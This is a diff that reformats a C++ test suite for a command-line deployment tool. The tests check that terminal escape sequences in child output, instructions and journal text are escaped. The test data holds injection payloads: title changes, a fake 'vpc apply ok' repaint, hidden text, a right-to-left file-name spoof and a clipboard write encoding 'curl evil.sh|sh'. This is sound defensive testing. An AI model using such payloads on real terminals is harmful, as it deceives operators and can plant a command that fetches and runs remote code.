@@ -30,15 +30,23 @@ struct Attack {
 
 const std::vector<Attack> kAttacks = {
     {"window title", "\\033]0;pwned\\007", "\x1b]0;pwned\x07"},
-    {"clipboard write", "\\033]52;c;Y3VybCBldmlsLnNofHNo\\007", "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"},
-    {"repaint as success", "\\033[1A\\033[2K[1/1] vpc apply ok", "\x1b[1A\x1b[2K[1/1] vpc apply ok"},
+    {"clipboard write", "\\033]52;c;Y3VybCBldmlsLnNofHNo\\007",
+     "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"},
+    {"repaint as success", "\\033[1A\\033[2K[1/1] vpc apply ok",
+     "\x1b[1A\x1b[2K[1/1] vpc apply ok"},
     {"clear screen", "\\033[2J\\033[H", "\x1b[2J\x1b[H"},
     {"carriage return", "Error: x\\rAll good   ", "Error: x\rAll good   "},
     {"hidden text", "\\033[8mhidden\\033[0m", "\x1b[8mhidden\x1b[0m"},
-    {"8-bit CSI", "\\2332J", "\x9b" "2J"},
-    {"C1 in UTF-8", "\\302\\2332J", "\xc2\x9b" "2J"},
+    {"8-bit CSI", "\\2332J",
+     "\x9b"
+     "2J"},
+    {"C1 in UTF-8", "\\302\\2332J",
+     "\xc2\x9b"
+     "2J"},
     {"bell and backspace", "\\007\\010\\010x", "\x07\x08\x08x"},
-    {"right-to-left override", "\\342\\200\\256gnp.exe", "\xe2\x80\xae" "gnp.exe"},
+    {"right-to-left override", "\\342\\200\\256gnp.exe",
+     "\xe2\x80\xae"
+     "gnp.exe"},
 };
 
 /// One command layer per attack, printing it on stdout and stderr; `fail` makes the last one
@@ -48,8 +56,8 @@ std::string manifest(bool fail) {
   for (std::size_t i = 0; i < kAttacks.size(); ++i) {
     m += "  - name: attack-" + std::to_string(i) + "\n    kind: command\n";
     if (i > 0) m += "    depends_on: [attack-" + std::to_string(i - 1) + "]\n";
-    const std::string script = std::string("printf '") + kAttacks[i].printf_format + "\\n'; printf '" +
-                               kAttacks[i].printf_format + "\\n' >&2" +
+    const std::string script = std::string("printf '") + kAttacks[i].printf_format +
+                               "\\n'; printf '" + kAttacks[i].printf_format + "\\n' >&2" +
                                (fail && i + 1 == kAttacks.size() ? "; exit 1" : "");
     std::string quoted;  // a YAML single-quoted scalar: backslashes stay, ' is doubled
     for (char c : script) quoted += c == '\'' ? std::string("''") : std::string(1, c);
@@ -86,10 +94,13 @@ TEST(Terminal, ChildOutputInTheVerboseEchoIsEscapedWithOrWithoutColour) {
       EXPECT_TRUE(contains(r.err, label + shown + "\n")) << kAttacks[i].what << "\n" << r.err;
       EXPECT_FALSE(contains(r.err, kAttacks[i].bytes)) << kAttacks[i].what;
       // The log keeps what the child wrote, byte for byte.
-      EXPECT_EQ(p.log("attack-" + std::to_string(i)), kAttacks[i].bytes + "\n" + kAttacks[i].bytes + "\n")
+      EXPECT_EQ(p.log("attack-" + std::to_string(i)),
+                kAttacks[i].bytes + "\n" + kAttacks[i].bytes + "\n")
           << kAttacks[i].what;
     }
-    if (!colour) { EXPECT_FALSE(contains(r.err, "\x1b")) << "no escape byte at all without colours"; }
+    if (!colour) {
+      EXPECT_FALSE(contains(r.err, "\x1b")) << "no escape byte at all without colours";
+    }
   }
 }
 
@@ -107,12 +118,17 @@ TEST(Terminal, AFailedLayersLastLinesAreEscaped) {
 
 TEST(Terminal, AGatesInstructionsAreEscaped) {
   Project p;
-  p.manifest("version: 1\nlayers:\n  - name: registrar\n    kind: manual\n"
-             "    instructions: \"Point the registrar at\\e]0;pwned\\a the name servers.\\e[1A\\e[2KDone\"\n");
+  p.manifest(
+      "version: 1\nlayers:\n  - name: registrar\n    kind: manual\n"
+      "    instructions: \"Point the registrar at\\e]0;pwned\\a the name "
+      "servers.\\e[1A\\e[2KDone\"\n");
   Outcome r = p.run({"apply", "--env", "dev", "--yes"});
-  if (r.exit_code == 65) GTEST_SKIP() << "the manifest loader refuses control characters: " << r.err;
+  if (r.exit_code == 65)
+    GTEST_SKIP() << "the manifest loader refuses control characters: " << r.err;
   ASSERT_EQ(r.exit_code, 5) << r.err;
-  EXPECT_TRUE(contains(r.err, "Point the registrar at\\x1b]0;pwned\\x07 the name servers.\\x1b[1A\\x1b[2KDone")) << r.err;
+  EXPECT_TRUE(contains(
+      r.err, "Point the registrar at\\x1b]0;pwned\\x07 the name servers.\\x1b[1A\\x1b[2KDone"))
+      << r.err;
   EXPECT_FALSE(contains(r.err, "\x1b")) << r.err;
 }
 
@@ -122,11 +138,15 @@ TEST(Terminal, JournalTextShownByStatusIsEscaped) {
   p.layer_hcl("dev", "vpc", {});
   p.write(".stackctl/dev/journal.jsonl",
           "{\"type\":\"header\",\"format\":\"stackctl-journal\",\"version\":1}\n"
-          "{\"type\":\"run_start\",\"run_id\":\"r1\",\"time\":\"\\u001b]0;pwned\\u0007\",\"command\":\"apply\\u001b[2J\"}\n"
-          "{\"type\":\"layer_end\",\"run_id\":\"r1\",\"time\":\"t\",\"layer\":\"vpc\",\"action\":\"apply\",\"result\":\"ok\\u001b[32m\"}\n");
+          "{\"type\":\"run_start\",\"run_id\":\"r1\",\"time\":\"\\u001b]0;pwned\\u0007\","
+          "\"command\":\"apply\\u001b[2J\"}\n"
+          "{\"type\":\"layer_end\",\"run_id\":\"r1\",\"time\":\"t\",\"layer\":\"vpc\",\"action\":"
+          "\"apply\",\"result\":\"ok\\u001b[32m\"}\n");
   Outcome r = p.run({"status", "--env", "dev"});
   ASSERT_EQ(r.exit_code, 0) << r.err;
-  EXPECT_TRUE(contains(r.out, "last run r1: apply\\x1b[2J started \\x1b]0;pwned\\x07, never finished")) << r.out;
+  EXPECT_TRUE(
+      contains(r.out, "last run r1: apply\\x1b[2J started \\x1b]0;pwned\\x07, never finished"))
+      << r.out;
   EXPECT_TRUE(contains(r.out, "ok\\x1b[32m")) << r.out;
   EXPECT_FALSE(contains(r.out, "\x1b")) << r.out;
 }
